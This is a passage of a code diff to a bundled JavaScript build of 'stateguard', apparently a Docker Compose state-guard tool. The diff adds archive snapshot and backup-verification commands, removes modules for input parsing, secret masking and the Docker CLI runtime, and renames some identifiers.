+        const fhCheck = await (0,promises_namespaceObject.open)(tempPath, external_node_fs_namespaceObject.constants.O_RDONLY);
+        let check;
+        try {
+            check = await inspectArchive(fhCheck.createReadStream({ highWaterMark: 1024 * 1024, autoClose: false }), {
+                maxUncompressedBytes: Number.MAX_SAFE_INTEGER,
+                maxEntries: Number.MAX_SAFE_INTEGER,
+            });
+        }
+        finally {
+            await fhCheck.close();
+        }
+        if (check.problems.length || check.sha256 !== sha256 || check.bytesRead !== bytes) {
+            throw new SnapshotError(`the written archive did not pass verification: ${check.problems.map((p) => `[${p.code}] ${p.message}`).join('; ') || `sha256/size differ from what was written`}`);
+        }
+        await (args.hooks?.publish ?? publishNoClobber)(tempPath, finalPath);
+        await writeFileAtomic(`${finalPath}${CHECKSUM_SUFFIX}`, `${sha256}  ${finalName}\n`, args.hooks?.publish);
+        await fsyncDir(outDir);
+        if (restartError) {
+            throw new SnapshotError(`the snapshot was written (${finalPath}), but ${restartError}; the module is DOWN`);
+        }
+        log.info(`snapshot ${mod.name}: ${finalPath} (${bytes} bytes, ${counters.entries} entries, sha256 ${sha256})`);
+        return {
+            path: finalPath,
+            sha256,
+            bytes,
+            entries: counters.entries,
+            volumes: targets.map((t) => t.volume),
+            taken_at: args.now.toISOString(),
+        };
+    }
+    catch (err) {
+        if (restartError && !(err instanceof SnapshotError && err.message.includes('the module is DOWN'))) {
+            throw new SnapshotError(`${errorMessage(err)}; ALSO: ${restartError}; the module is DOWN`);
+        }
+        throw err;
+    }
+    finally {
+        await (0,promises_namespaceObject.rm)(tempPath, { force: true });
+    }
+}
+
+;// CONCATENATED MODULE: ./src/commands/snapshot.ts
+/** `stateguard snapshot`: a module's data volumes archived while it is stopped (DESIGN §7). */
+
+
+
+
+
+const snapshotCommand = defineCommand({
+    name: 'snapshot',
+    title: 'stateguard snapshot',
+    description: "Snapshot a module's declared data volumes while its containers are stopped, then start them again.",
+    inputs: [
+        ROOT_INPUT,
+        MODULES_INPUT,
+        { name: 'module', kind: 'string', required: true, description: 'The module to snapshot.' },
+        {
+            name: 'out-dir',
+            kind: 'string',
+            required: true,
+            description: 'Directory that receives <module>-<stamp>.tar.gz and its .sha256 (created if missing).',
+        },
+        JSON_INPUT,
+    ],
+    outputs: [
+        { name: 'backup-ref', description: 'Path of the written archive (feed it to backup-ref).' },
+        { name: 'sha256', description: 'sha256 of the archive.' },
+        { name: 'bytes', description: 'Size of the archive.' },
+        FAILURE_REASON_OUTPUT,
+    ],
+    async run(opts, ctx) {
+        const set = loadValidModules(opts, ctx);
+        const mod = pickModule(set, opts.module);
+        const result = await takeSnapshot({
+            module: mod,
+            runtime: ctx.runtime(),
+            outDir: external_node_path_default().resolve(ctx.cwd, opts.outDir),
+            now: ctx.now(),
+            log: ctx.log,
+        });
+        return {
+            exitCode: errors_ExitCode.ok,
+            json: result,
+            text: `snapshot of ${mod.name} written: ${result.path}\n` +
+                `  ${result.bytes} bytes, ${result.entries} entries, volumes ${result.volumes.join(', ')}, taken ${result.taken_at}\n` +
+                `  sha256 ${result.sha256}`,
+            outputs: {
+                'backup-ref': result.path,
+                sha256: result.sha256,
+                bytes: String(result.bytes),
+                'failure-reason': '',
+            },
+            summary: `### stateguard snapshot: ${cell(mod.name)}\n\n| archive | volumes | entries | bytes | sha256 |\n|---|---|---|---|---|\n` +
+                `| ${cell(result.path)} | ${cell(result.volumes.join(', '))} | ${result.entries} | ${result.bytes} | \`${result.sha256}\` |`,
+        };
+    },
+});
+
 ;// CONCATENATED MODULE: ./src/commands/validate.ts
 /** `stateguard validate`: schema and cross-file checks of every module (DESIGN §2). */
 
@@ -49014,14 +62432,14 @@ const validateCommand = defineCommand({
     ],
     async run(opts, ctx) {
         const root = external_node_path_default().resolve(ctx.cwd, opts.root);
-        const { loaded, problems } = validate_validateModules(root, opts.modules, ctx.cwd);
+        const { loaded, problems } = validateModules(root, opts.modules, ctx.cwd);
         const valid = problems.length === 0 && loaded.modules.length > 0;
         const errors = problems.map((p) => ({ file: p.file, line: p.line, column: p.column, message: p.message }));
         if (loaded.modules.length === 0 && problems.length === 0) {
             errors.push({ file: opts.root, line: 1, column: 1, message: `no module.yaml matches ${JSON.stringify(opts.modules)} under this root` });
         }
         const names = loaded.modules.map((m) => m.name);
-        const lines = errors.map((e) => module_formatProblem(e));
+        const lines = errors.map((e) => formatProblem(e));
         if (valid) {
             lines.push(`${names.length} module${names.length === 1 ? '' : 's'} valid:`);
             for (const m of loaded.modules) {
@@ -49034,7 +62452,7 @@ const validateCommand = defineCommand({
         const summary = valid
             ? `### stateguard validate: ${names.length} modules valid\n\n| module | class | expected state | compose |\n|---|---|---|---|\n` +
                 loaded.modules.map((m) => `| ${cell(m.name)} | ${m.class} | ${m.expectedState} | ${cell(`${m.compose.project}/${m.compose.service}`)} |`).join('\n')
-            : `### stateguard validate: ${errors.length} problems\n\n` + errors.map((e) => `- \`${cell(module_formatProblem(e))}\``).join('\n');
+            : `### stateguard validate: ${errors.length} problems\n\n` + errors.map((e) => `- \`${cell(formatProblem(e))}\``).join('\n');
         return {
             exitCode: valid ? errors_ExitCode.ok : errors_ExitCode.no,
             json: { valid, modules: names, errors },
@@ -49053,24 +62471,93 @@ const validateCommand = defineCommand({
 });
 
 ;// CONCATENATED MODULE: ./src/commands/verify-backup.ts
-/** `stateguard verify-backup` — not implemented yet (its issue has not landed). */
+/** `stateguard verify-backup`: a backup archive judged as untrusted input (DESIGN §5). */
 
 
-const verifyBackupCommand = notImplemented('verify-backup', 'Verify a backup archive as untrusted input: location, name, age, checksum, and every entry, without extracting it.', [
-    ROOT_INPUT, MODULES_INPUT,
-    { name: 'module', kind: 'string', required: true, description: 'The module the backup must cover.' },
-    { name: 'backup-ref', kind: 'string', required: true, description: 'Path of the .tar.gz backup.' },
-    { name: 'backup-root', kind: 'list', description: 'Allowed backup directories (repeatable; one per line in the action). None means refuse.' },
-    { name: 'max-uncompressed-bytes', kind: 'size', default: '64G', description: 'Stop and reject past this many uncompressed bytes (K/M/G suffixes).' },
-    { name: 'max-entries', kind: 'integer', default: '1000000', description: 'Stop and reject past this many archive entries.' },
-    JSON_INPUT,
-], [
-    { name: 'verified', description: "'true' when the backup passed every check." },
-    { name: 'sha256', description: 'sha256 of the archive file.' },
-    { name: 'bytes', description: 'Size of the archive file.' },
-    { name: 'entries', description: 'Number of entries in the archive.' },
-    FAILURE_REASON_OUTPUT,
-]);
+
+
+function renderBackupReport(r) {
+    const lines = [];
+    if (r.verified) {
+        lines.push(`backup verified: ${r.path}`);
+        lines.push(`  module ${r.matched_module}, taken ${r.created_at}, ${r.entries} entries, ${r.bytes} bytes (${r.uncompressed_bytes} uncompressed)`);
+        lines.push(`  sha256 ${r.sha256}`);
+    }
+    else {
+        lines.push(`backup REJECTED: ${r.path}`);
+        for (const p of r.problems)
+            lines.push(`  [${p.code}] ${p.message}${p.entry !== undefined ? ` (entry ${JSON.stringify(p.entry)})` : ''}`);
+    }
+    const summary = r.verified
+        ? `### stateguard verify-backup: verified\n\n| file | module | taken | entries | bytes | sha256 |\n|---|---|---|---|---|---|\n` +
+            `| ${cell(r.path)} | ${cell(r.matched_module ?? '')} | ${r.created_at} | ${r.entries} | ${r.bytes} | \`${r.sha256}\` |`
+        : `### stateguard verify-backup: rejected\n\n\`${cell(r.path)}\`\n\n| code | problem | entry |\n|---|---|---|\n` +
+            r.problems.map((p) => `| \`${p.code}\` | ${cell(p.message)} | ${p.entry !== undefined ? `\`${cell(p.entry)}\`` : ''} |`).join('\n');
+    return { text: lines.join('\n'), summary };
+}
+const verifyBackupCommand = defineCommand({
+    name: 'verify-backup',
+    title: 'stateguard verify-backup',
+    description: 'Verify a backup archive as untrusted input: location, name, age, checksum, and every entry, without extracting it.',
+    inputs: [
+        ROOT_INPUT,
+        MODULES_INPUT,
+        { name: 'module', kind: 'string', required: true, description: 'The module the backup must cover.' },
+        { name: 'backup-ref', kind: 'string', required: true, description: 'Path of the .tar.gz backup.' },
+        {
+            name: 'backup-root',
+            kind: 'list',
+            description: 'Allowed backup directories (repeatable; one per line in the action). None means refuse.',
+        },
+        {
+            name: 'max-uncompressed-bytes',
+            kind: 'size',
+            default: '64G',
+            description: 'Stop and reject past this many uncompressed bytes (K/M/G suffixes).',
+        },
+        { name: 'max-entries', kind: 'integer', default: '1000000', description: 'Stop and reject past this many archive entries.' },
+        JSON_INPUT,
+    ],
+    outputs: [
+        { name: 'verified', description: "'true' when the backup passed every check." },
+        { name: 'sha256', description: 'sha256 of the archive file.' },
+        { name: 'bytes', description: 'Size of the archive file.' },
+        { name: 'entries', description: 'Number of entries in the archive.' },
+        FAILURE_REASON_OUTPUT,
+    ],
+    async run(opts, ctx) {
+        const set = loadValidModules(opts, ctx);
+        const mod = pickModule(set, opts.module);
+        const report = await verifyBackup({
+            backupRef: opts.backupRef,
+            cwd: ctx.cwd,
+            module: mod,
+            backupRoots: opts.backupRoot,
+            now: ctx.now(),
+            maxUncompressedBytes: opts.maxUncompressedBytes,
+            maxEntries: opts.maxEntries,
+        });
+        const { text, summary } = renderBackupReport(report);
+        const reason = report.verified ? undefined : 'backup-rejected';
+        return {
+            exitCode: report.verified ? errors_ExitCode.ok : errors_ExitCode.no,
+            json: report,
+            text,
+            outputs: {
+                verified: String(report.verified),
+                sha256: report.sha256 ?? '',
+                bytes: report.bytes === null ? '' : String(report.bytes),
+                entries: report.entries === null ? '' : String(report.entries),
+                'failure-reason': reason ?? '',
+            },
+            summary,
+            annotations: report.verified
+                ? []
+                : [{ level: 'error', title: 'stateguard verify-backup', message: `backup rejected: ${report.problems.map((p) => `[${p.code}] ${p.message}`).join('; ')}` }],
+            failureReason: reason,
+        };
+    },
+});
 
 ;// CONCATENATED MODULE: ./src/commands/index.ts
 /** Every command, by name. The CLI, the actions and the build's action.yml generator read this. */
@@ -49094,547 +62581,6 @@ const COMMANDS = {
 };
 function getCommand(name) {
     return Object.hasOwn(COMMANDS, name) ? COMMANDS[name] : undefined;
-}
-
-;// CONCATENATED MODULE: ./src/commands/inputs.ts
-/**
- * Turns raw input strings (from argv or from INPUT_* variables) into a command's typed options,
- * strictly. Every rejection is a UserError naming the input, the bad value, what was expected and
- * how to fix it. Booleans are `true`/`false` only: `yes`, `1`, `True ` are refused, never coerced.
- */
-
-
-const cliNames = { describe: (n) => `--${n}` };
-const actionNames = { describe: (n) => `input '${n}'` };
-function parseBoolean(raw, label) {
-    if (raw === 'true')
-        return true;
-    if (raw === 'false')
-        return false;
-    throw new errors_UserError(`${label} must be exactly 'true' or 'false', got ${JSON.stringify(raw)}. ` +
-        `Booleans are not coerced (yes/1/TRUE are refused): pass true or false.`, { input: label });
-}
-const SIZE_UNITS = { '': 1, K: 1024, M: 1024 ** 2, G: 1024 ** 3, T: 1024 ** 4 };
-/** `512`, `64K`, `100M`, `2G` (binary units; a trailing `B`/`iB` is accepted). */
-function parseSize(raw, label) {
-    const m = /^(\d+)\s*([KMGT]?)(?:i?B)?$/i.exec(raw.trim());
-    const unit = m ? SIZE_UNITS[(m[2] ?? '').toUpperCase()] : undefined;
-    if (!m || unit === undefined) {
-        throw new errors_UserError(`${label} must be a size like 512, 64K, 100M or 2G, got ${JSON.stringify(raw)}.`, { input: label });
-    }
-    const value = Number(m[1]) * unit;
-    if (!Number.isSafeInteger(value) || value <= 0) {
-        throw new errors_UserError(`${label} must be a positive size, got ${JSON.stringify(raw)}.`, { input: label });
-    }
-    return value;
-}
-function parseInteger(raw, label) {
-    if (!/^\d+$/.test(raw.trim())) {
-        throw new errors_UserError(`${label} must be a whole number, got ${JSON.stringify(raw)}.`, { input: label });
-    }
-    const value = Number(raw.trim());
-    if (!Number.isSafeInteger(value)) {
-        throw new errors_UserError(`${label} is too large: ${JSON.stringify(raw)}.`, { input: label });
-    }
-    return value;
-}
-function show(def, raw) {
-    return def.secret ? '(value hidden)' : JSON.stringify(raw);
-}
-/** Parse every declared input. Unknown raw keys are rejected by the callers (CLI: unknown flag). */
-function parseInputs(defs, raw, names) {
-    const out = {};
-    for (const def of defs) {
-        const label = names.describe(def.name);
-        const given = raw[def.name];
-        const values = (Array.isArray(given) ? given : given === undefined ? [] : [given]).filter((v) => def.kind === 'list' || v !== '');
-        if (def.kind === 'list') {
-            // Action inputs carry lists one per line; CLI repeats the flag. Blank lines are ignored.
-            const items = values.flatMap((v) => v.split(/\r?\n/)).map((v) => v.trim()).filter((v) => v !== '');
-            const fallback = items.length === 0 && def.default ? def.default.split(/\r?\n/).filter(Boolean) : [];
-            const list = items.length ? items : fallback;
-            if (def.required && list.length === 0) {
-                throw new errors_UserError(`${label} is required: ${def.description}`, { input: def.name });
-            }
-            out[camel(def.name)] = list;
-            continue;
-        }
-        if (values.length > 1) {
-            throw new errors_UserError(`${label} was given ${values.length} times; give it once.`, { input: def.name });
-        }
-        const value = values[0] ?? def.default;
-        if (value === undefined || value === '') {
-            if (def.required) {
-                throw new errors_UserError(`${label} is required: ${def.description}`, { input: def.name });
-            }
-            out[camel(def.name)] = def.kind === 'boolean' ? false : undefined;
-            continue;
-        }
-        switch (def.kind) {
-            case 'string':
-                out[camel(def.name)] = value;
-                break;
-            case 'boolean':
-                out[camel(def.name)] = parseBoolean(value, label);
-                break;
-            case 'size':
-                out[camel(def.name)] = parseSize(value, label);
-                break;
-            case 'integer':
-                out[camel(def.name)] = parseInteger(value, label);
-                break;
-            case 'choice':
-                if (!def.choices?.includes(value)) {
-                    throw new errors_UserError(`${label} must be one of ${def.choices?.join(', ')}, got ${show(def, value)}.`, { input: def.name });
-                }
-                out[camel(def.name)] = value;
-                break;
-        }
-    }
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/run-command.ts
-/**
- * Runs one command with a context, turning every escape (user error, unreachable engine, bug)
- * into a CommandResult that says no. Shared by the CLI and the actions so both fail closed the
- * same way.
- */
-
-async function runCommand(spec, options, ctx) {
-    try {
-        return await spec.run(options, ctx);
-    }
-    catch (err) {
-        return errorResult(spec, err);
-    }
-}
-function errorResult(spec, err) {
-    const name = spec?.name ?? 'stateguard';
-    let exitCode = errors_ExitCode.couldNotRun;
-    let reason = 'internal';
-    let message = errorMessage(err);
-    if (err instanceof errors_UserError) {
-        exitCode = err.exitCode;
-        reason = err.reason;
-    }
-    else if (err instanceof EnvironmentError) {
-        reason = err.reason;
-    }
-    else {
-        message = `unexpected error (stateguard failed closed; please report this): ${message}`;
-    }
-    const outputs = {};
-    if (spec?.outputs.some((o) => o.name === 'failure-reason'))
-        outputs['failure-reason'] = reason;
-    return {
-        exitCode,
-        json: { error: message, failure_reason: reason, exit_code: exitCode },
-        text: `stateguard ${name}: ${message}`,
-        outputs,
-        summary: `### stateguard ${name}: could not complete\n\n${message.split('\n').map((l) => `> ${l}`).join('\n')}\n\nfailure-reason: \`${reason}\``,
-        failureReason: reason,
-        annotations: [],
-    };
-}
-
-;// CONCATENATED MODULE: ./src/report/scrub.ts
-/**
- * Replaces registered secret values with `***` in every string that leaves stateguard: the job log,
- * stdout/stderr, the summary, outputs and JSON. Commands register secrets through the context;
- * the CLI and action layers run every write through one Scrubber, so a command that forgets to
- * scrub still cannot leak.
- */
-const MASK = '***';
-/** Names of environment variables whose values are treated as secrets. */
-const SECRET_NAME = /PASS(WORD|WD)?|SECRET|TOKEN|(^|_)KEY($|_)|API_?KEY|PRIVATE|CREDENTIAL|AUTH|CERT|DSN|CONN(ECTION)?_?STRING|ACCESS_?KEY|SALT|SESSION/i;
-function looksSecret(name) {
-    return SECRET_NAME.test(name);
-}
-class Scrubber {
-    values = [];
-    add(value) {
-        // Very short values would mask ordinary text everywhere and reveal little; 3+ chars only.
-        if (!value || value.length < 3 || this.values.includes(value))
-            return;
-        this.values.push(value);
-        // Longest first, so a secret that contains another is masked whole.
-        this.values.sort((a, b) => b.length - a.length);
-    }
-    /** Secret values from `NAME=value` environment entries whose names look secret. */
-    addFromEnv(entries) {
-        const found = [];
-        for (const e of entries) {
-            const i = e.indexOf('=');
-            if (i <= 0)
-                continue;
-            const name = e.slice(0, i);
-            const value = e.slice(i + 1);
-            if (looksSecret(name) && value.length >= 3) {
-                this.add(value);
-                found.push(value);
-            }
-        }
-        return found;
-    }
-    get size() {
-        return this.values.length;
-    }
-    scrub(text) {
-        let out = text;
-        for (const v of this.values)
-            if (out.includes(v))
-                out = out.split(v).join(MASK);
-        return out;
-    }
-    /** Scrub every string inside a JSON-able value. */
-    scrubDeep(value) {
-        if (this.values.length === 0)
-            return value;
-        return JSON.parse(this.scrub(JSON.stringify(value)));
-    }
-}
-
-;// CONCATENATED MODULE: external "node:child_process"
-const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
-;// CONCATENATED MODULE: ./src/runtime/process.ts
-/**
- * The one place stateguard spawns processes. Always an argument array, never a shell, so no input
- * can be interpolated into a command line.
- */
-
-const spawnProcess = (command, args, opts = {}) => new Promise((resolve) => {
-    let stdout = '';
-    let stderr = '';
-    let settled = false;
-    const child = (0,external_node_child_process_namespaceObject.spawn)(command, [...args], {
-        cwd: opts.cwd,
-        env: { ...process.env, DOCKER_CLI_HINTS: 'false', ...opts.env },
-        stdio: ['pipe', 'pipe', 'pipe'],
-        shell: false,
-    });
-    const finish = (result) => {
-        if (settled)
-            return;
-        settled = true;
-        if (timer)
-            clearTimeout(timer);
-        resolve(result);
-    };
-    const timer = opts.timeoutMs
-        ? setTimeout(() => {
-            child.kill('SIGKILL');
-            finish({ code: 124, stdout, stderr: stderr + `\n(killed after ${opts.timeoutMs} ms)` });
-        }, opts.timeoutMs)
-        : undefined;
-    if (opts.stdoutSink) {
-        child.stdout.pipe(opts.stdoutSink, { end: false });
-    }
-    else {
-        child.stdout.setEncoding('utf8');
-        child.stdout.on('data', (chunk) => {
-            stdout += chunk;
-            opts.onStdout?.(chunk);
-        });
-    }
-    child.stderr.setEncoding('utf8');
-    child.stderr.on('data', (chunk) => {
-        stderr += chunk;
-        opts.onStderr?.(chunk);
-    });
-    child.on('error', (err) => {
-        finish({ code: err.code === 'ENOENT' ? 127 : 126, stdout, stderr: `${command}: ${err.message}` });
-    });
-    child.on('close', (code, signal) => {
-        finish({ code: code ?? (signal ? 128 : 1), stdout, stderr });
-    });
-    child.stdin.on('error', () => {
-        /* the child may exit before reading stdin; its exit code tells what happened */
-    });
-    if (opts.input !== undefined)
-        child.stdin.end(opts.input);
-    else
-        child.stdin.end();
-});
-/** Wraps a runner to count the processes it starts (benchmarks, process-count tests). */
-function countingRunner(inner) {
-    const calls = [];
-    return {
-        calls,
-        runner: (command, args, opts) => {
-            calls.push([command, ...args]);
-            return inner(command, args, opts);
-        },
-    };
-}
-
-;// CONCATENATED MODULE: ./src/runtime/docker-cli.ts
-/**
- * Runtime implemented with the `docker` CLI and the compose CLI, so DOCKER_HOST, contexts, ssh and
- * TLS behave exactly as the operator's own `docker` does. State is read from `docker ps` /
- * `docker inspect` JSON by compose labels — never by container name and never by parsing compose's
- * human output (compose v1 even exits 0 on unknown flags).
- */
-
-
-
-const LABEL = {
-    project: 'com.docker.compose.project',
-    service: 'com.docker.compose.service',
-    oneoff: 'com.docker.compose.oneoff',
-    configHash: 'com.docker.compose.config-hash',
-};
-function firstLine(text) {
-    return text.trim().split('\n').find((l) => l.trim() !== '')?.trim() ?? '';
-}
-function describeEngine(env) {
-    if (env.DOCKER_HOST)
-        return `DOCKER_HOST=${env.DOCKER_HOST}`;
-    if (env.DOCKER_CONTEXT)
-        return `docker context ${env.DOCKER_CONTEXT}`;
-    return 'the current docker context (DOCKER_HOST is not set)';
-}
-/** Parse the JSON array printed by `docker inspect` into ContainerInfo records. */
-function parseInspect(stdout) {
-    const trimmed = stdout.trim();
-    if (!trimmed.startsWith('['))
-        return [];
-    const raw = JSON.parse(trimmed);
-    return raw.map((c) => {
-        const labels = c.Config?.Labels ?? {};
-        const st = c.State ?? {};
-        const started = typeof st.StartedAt === 'string' && !st.StartedAt.startsWith('0001-') ? st.StartedAt : null;
-        const finished = typeof st.FinishedAt === 'string' && !st.FinishedAt.startsWith('0001-') ? st.FinishedAt : null;
-        return {
-            id: String(c.Id),
-            name: String(c.Name ?? '').replace(/^\//, ''),
-            imageRef: String(c.Config?.Image ?? ''),
-            imageId: String(c.Image ?? ''),
-            state: String(st.Status ?? 'dead'),
-            exitCode: typeof st.ExitCode === 'number' ? st.ExitCode : null,
-            health: st.Health?.Status ? String(st.Health.Status) : null,
-            startedAt: started,
-            finishedAt: finished,
-            createdAt: String(c.Created ?? ''),
-            labels,
-            project: labels[LABEL.project],
-            service: labels[LABEL.service],
-            oneoff: (labels[LABEL.oneoff] ?? '').toLowerCase() === 'true',
-            configHash: labels[LABEL.configHash],
-            env: Array.isArray(c.Config?.Env) ? c.Config.Env : [],
-            mounts: Array.isArray(c.Mounts)
-                ? c.Mounts.map((m) => ({
-                    type: String(m.Type ?? ''),
-                    name: m.Name ? String(m.Name) : undefined,
-                    source: String(m.Source ?? ''),
-                    destination: String(m.Destination ?? ''),
-                }))
-                : [],
-        };
-    });
-}
-/** `config --hash '*'` prints `service hash` per line (v1 and v2 alike). */
-function parseConfigHashes(stdout) {
-    const out = {};
-    for (const line of stdout.split('\n')) {
-        const m = /^(\S+)\s+([0-9a-f]{16,})\s*$/.exec(line.trim());
-        if (m)
-            out[m[1]] = m[2];
-    }
-    return out;
-}
-function parseRenderedConfig(stdout) {
-    const doc = (0,dist/* parse */.qg)(stdout, { maxAliasCount: 100 });
-    return doc?.services ?? {};
-}
-/**
- * Normalise an image reference the way the engine lists RepoTags: implicit `:latest`, and the
- * Docker Hub prefixes dropped (`docker.io/library/x` lists as `x`).
- */
-function normalizeImageRef(ref) {
-    let r = ref.trim();
-    if (r.includes('@'))
-        return r; // digest refs compare as written
-    r = r.replace(/^docker\.io\/library\//, '').replace(/^docker\.io\//, '').replace(/^index\.docker\.io\//, '');
-    const lastSlash = r.lastIndexOf('/');
-    const tail = r.slice(lastSlash + 1);
-    if (!tail.includes(':'))
-        r += ':latest';
-    return r;
-}
-class DockerCli {
-    run;
-    env;
-    flavor;
-    pinged;
-    constructor(opts = {}) {
-        this.run = opts.runner ?? spawnProcess;
-        this.env = opts.env ?? process.env;
-        const forced = opts.compose ?? this.env.STATEGUARD_COMPOSE;
-        if (forced === 'v1' || forced === 'v2')
-            this.flavor = Promise.resolve(forced);
-    }
-    docker(args, opts) {
-        return this.run('docker', args, opts);
-    }
-    ping() {
-        this.pinged ??= (async () => {
-            const r = await this.docker(['version', '--format', '{{.Server.Version}}'], { timeoutMs: 30_000 });
-            if (r.code !== 0 || r.stdout.trim() === '') {
-                this.pinged = undefined;
-                throw new EnvironmentError(`Cannot reach the Docker engine via ${describeEngine(this.env)}: ` +
-                    `${firstLine(r.stderr) || `docker exited ${r.code}`}. ` +
-                    `Start the engine, or point DOCKER_HOST / 'docker context use' at the host that runs the services.`);
-            }
-        })();
-        return this.pinged;
-    }
-    composeFlavor() {
-        this.flavor ??= (async () => {
-            const v2 = await this.docker(['compose', 'version', '--short']);
-            if (v2.code === 0 && /\d/.test(v2.stdout))
-                return 'v2';
-            const v1 = await this.run('docker-compose', ['version', '--short']);
-            if (v1.code === 0)
-                return 'v1';
-            throw new EnvironmentError('Neither `docker compose` (v2) nor `docker-compose` (v1) is installed; install one of them.', 'compose-error');
-        })();
-        return this.flavor;
-    }
-    /** Build the compose command line for a target (exposed for unit tests of both flavors). */
-    static composeArgs(flavor, target, args) {
-        const base = target.files.flatMap((f) => ['-f', f]).concat(['-p', target.project], args);
-        return flavor === 'v2' ? ['docker', ['compose', ...base]] : ['docker-compose', base];
-    }
-    async compose(target, args, opts) {
-        const [cmd, full] = DockerCli.composeArgs(await this.composeFlavor(), target, args);
-        return this.run(cmd, full, opts);
-    }
-    async listProjectContainers(project) {
-        await this.ping();
-        const ps = await this.docker(['ps', '-a', '-q', '--no-trunc', '--filter', `label=${LABEL.project}=${project}`]);
-        if (ps.code !== 0)
-            throw new EnvironmentError(`docker ps failed: ${firstLine(ps.stderr)}`);
-        const ids = ps.stdout.split('\n').map((s) => s.trim()).filter(Boolean);
-        const all = await this.inspectContainers(ids);
-        // The label filter already matched; re-check so a parsing surprise never mixes projects.
-        return all.filter((c) => c.project === project);
-    }
-    async inspectContainers(idsOrNames) {
-        if (idsOrNames.length === 0)
-            return [];
-        const r = await this.docker(['inspect', '--type', 'container', ...idsOrNames]);
-        // `docker inspect` exits 1 when some names are missing but still prints the found ones.
-        if (r.code !== 0 && !r.stdout.trim().startsWith('[')) {
-            if (/no such (container|object)/i.test(r.stderr))
-                return [];
-            throw new EnvironmentError(`docker inspect failed: ${firstLine(r.stderr)}`);
-        }
-        return parseInspect(r.stdout);
-    }
-    async renderProject(target) {
-        const [config, hashes] = await Promise.all([
-            this.compose(target, ['config']),
-            this.compose(target, ['config', '--hash', '*']),
-        ]);
-        for (const r of [config, hashes]) {
-            if (r.code !== 0) {
-                throw new errors_UserError(`compose could not render project '${target.project}' from ${target.files.join(', ')}: ` +
-                    `${firstLine(r.stderr) || `exit ${r.code}`}`, { reason: 'compose-error' });
-            }
-        }
-        return { services: parseRenderedConfig(config.stdout), hashes: parseConfigHashes(hashes.stdout) };
-    }
-    async imageIds(refs) {
-        const out = {};
-        const unique = [...new Set(refs)];
-        for (const ref of unique)
-            out[ref] = null;
-        if (unique.length === 0)
-            return out;
-        const r = await this.docker(['image', 'inspect', ...unique]);
-        const text = r.stdout.trim();
-        if (r.code !== 0 && !text.startsWith('[')) {
-            if (/no such image/i.test(r.stderr))
-                return out;
-            throw new EnvironmentError(`docker image inspect failed: ${firstLine(r.stderr)}`);
-        }
-        const images = JSON.parse(text || '[]');
-        for (const ref of unique) {
-            const norm = normalizeImageRef(ref);
-            const hit = images.find((img) => img.Id === ref ||
-                (img.RepoTags ?? []).some((t) => normalizeImageRef(t) === norm) ||
-                (img.RepoDigests ?? []).some((d) => d === ref || normalizeImageRef(d) === norm));
-            out[ref] = hit ? hit.Id : null;
-        }
-        return out;
-    }
-    recreateService(target, service) {
-        return this.compose(target, ['up', '-d', '--no-deps', '--force-recreate', service]);
-    }
-    composeUp(target, services = []) {
-        return this.compose(target, ['up', '-d', ...services]);
-    }
-    composeDown(target, removeVolumes) {
-        return this.compose(target, ['down', '--remove-orphans', ...(removeVolumes ? ['-v'] : [])]);
-    }
-    async wait(containerId, timeoutMs) {
-        const r = await this.docker(['wait', containerId], { timeoutMs });
-        if (r.code === 124)
-            return { exitCode: null, timedOut: true };
-        const code = Number.parseInt(r.stdout.trim(), 10);
-        if (r.code !== 0 || Number.isNaN(code)) {
-            throw new EnvironmentError(`docker wait ${containerId.slice(0, 12)} failed: ${firstLine(r.stderr)}`);
-        }
-        return { exitCode: code, timedOut: false };
-    }
-    async stop(containerIds, timeoutSeconds = 10) {
-        if (containerIds.length === 0)
-            return;
-        const r = await this.docker(['stop', '-t', String(timeoutSeconds), ...containerIds]);
-        if (r.code !== 0)
-            throw new EnvironmentError(`docker stop failed: ${firstLine(r.stderr)}`);
-    }
-    async start(containerIds) {
-        if (containerIds.length === 0)
-            return;
-        const r = await this.docker(['start', ...containerIds]);
-        if (r.code !== 0)
-            throw new EnvironmentError(`docker start failed: ${firstLine(r.stderr)}`);
-    }
-    async logs(containerId, onChunk, follow) {
-        await this.docker(['logs', ...(follow ? ['--follow'] : []), containerId], {
-            onStdout: onChunk,
-            onStderr: onChunk,
-        });
-    }
-    async copyFrom(containerId, path, sink) {
-        const r = await this.docker(['cp', `${containerId}:${path}`, '-'], { stdoutSink: sink });
-        if (r.code !== 0) {
-            throw new EnvironmentError(`docker cp from ${containerId.slice(0, 12)}:${path} failed: ${firstLine(r.stderr)}`);
-        }
-    }
-    async copyTo(containerId, dir, tarArchive) {
-        const r = await this.docker(['cp', '-', `${containerId}:${dir}`], { input: tarArchive });
-        if (r.code !== 0) {
-            throw new EnvironmentError(`docker cp to ${containerId.slice(0, 12)}:${dir} failed: ${firstLine(r.stderr)}`);
-        }
-    }
-    async createNamedContainer(name, image, labels) {
-        const labelArgs = Object.entries(labels).flatMap(([k, v]) => ['--label', `${k}=${v}`]);
-        const r = await this.docker(['create', '--name', name, ...labelArgs, image]);
-        if (r.code === 0)
-            return true;
-        if (/already in use|conflict/i.test(r.stderr))
-            return false;
-        throw new EnvironmentError(`docker create ${name} failed: ${firstLine(r.stderr)}`);
-    }
-    async removeContainer(idOrName) {
-        const r = await this.docker(['rm', '-f', idOrName]);
-        if (r.code !== 0 && !/no such container/i.test(r.stderr)) {
-            throw new EnvironmentError(`docker rm ${idOrName} failed: ${firstLine(r.stderr)}`);
-        }
-    }
 }
 
 ;// CONCATENATED MODULE: ./src/action.ts
@@ -49695,7 +62641,7 @@ async function runAction(name, io) {
     const spec = getCommand(commandName);
     let result;
     if (!spec) {
-        result = errorResult(undefined, new errors_UserError(`input 'command' must be one of plan, guard, apply, verify-backup, snapshot, e2e-gate, lint-workflows, validate; got ${JSON.stringify(commandName)}.`, { input: 'command' }));
+        result = errorResult(undefined, new UserError(`input 'command' must be one of plan, guard, apply, verify-backup, snapshot, e2e-gate, lint-workflows, validate; got ${JSON.stringify(commandName)}.`, { input: 'command' }));
         result.outputs['failure-reason'] = 'invalid-input';
     }
     else {
@@ -49744,7 +62690,7 @@ async function publish(result, c, scrub) {
     for (const [k, v] of Object.entries(result.outputs))
         c.setOutput(k, scrub.scrub(v));
     for (const a of result.annotations ?? [])
-        annotate(c, a, scrub);
+        action_annotate(c, a, scrub);
     if (result.summary) {
         try {
             await c.writeSummary(scrub.scrub(result.summary) + '\n');
@@ -49761,7 +62707,7 @@ async function publish(result, c, scrub) {
     }
     return errors_ExitCode.ok;
 }
-function annotate(c, a, scrub) {
